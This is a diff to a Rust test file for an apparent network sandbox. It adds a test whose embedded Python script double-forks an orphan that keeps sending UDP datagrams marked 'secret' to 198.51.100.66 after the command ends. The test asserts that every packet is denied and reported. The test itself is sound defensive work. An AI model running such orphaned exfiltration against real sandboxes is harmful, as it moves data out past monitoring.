@@ -1,5 +1,6 @@
 //! What a job sends last, before it exits without waiting for anything: it stays inside, and is told.
 
+use std::collections::HashSet;
 use std::fs;
 use std::time::Duration;
 
@@ -16,7 +17,32 @@ const ROUNDS: usize = 50;
 const SOON: Duration = Duration::from_secs(5);
 
 pub(crate) fn add(suite: &mut Suite) {
-    both!(suite, last_packets_are_told, last_packets_arrive);
+    both!(suite, last_packets_are_told, last_packets_of_survivors_are_told, last_packets_arrive);
+}
+
+/// An orphan goes on sending while the command ends, and writes down each datagram that it has sent.
+fn last_packets_of_survivors_are_told(mode: Mode) {
+    let world = World::new();
+    let script = "\
+import itertools, os, socket, time
+if os.fork(): time.sleep(0.05); os._exit(0)
+if os.fork(): os._exit(0)
+sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for port in itertools.count(10000):
+    sock.sendto(b'secret', ('198.51.100.66', port))
+    os.write(1, b'%d\\n' % port)
+";
+    let jail = Jail::new(&world, mode).allow("good.test");
+    let mut untold = Vec::new();
+    for round in 0..ROUNDS {
+        let outcome = jail.run(["/usr/bin/python3", "-c", script]);
+        outcome.assert_success();
+        let told: HashSet<u16> = outcome.denied().into_iter().filter_map(|event| event.port).collect();
+        let sent = outcome.stdout.lines().map(|line| line.parse::<u16>().unwrap());
+        untold.extend(sent.filter(|port| !told.contains(port)).map(|port| format!("{round}: {port}")));
+    }
+    assert!(untold.is_empty(), "{} have no event: {untold:?}", untold.len());
+    assert!(!world.wire().saw_bytes(b"secret"));
 }
 
 /// One of each kind, which the gateway finds together with the end: it is stopped meanwhile.
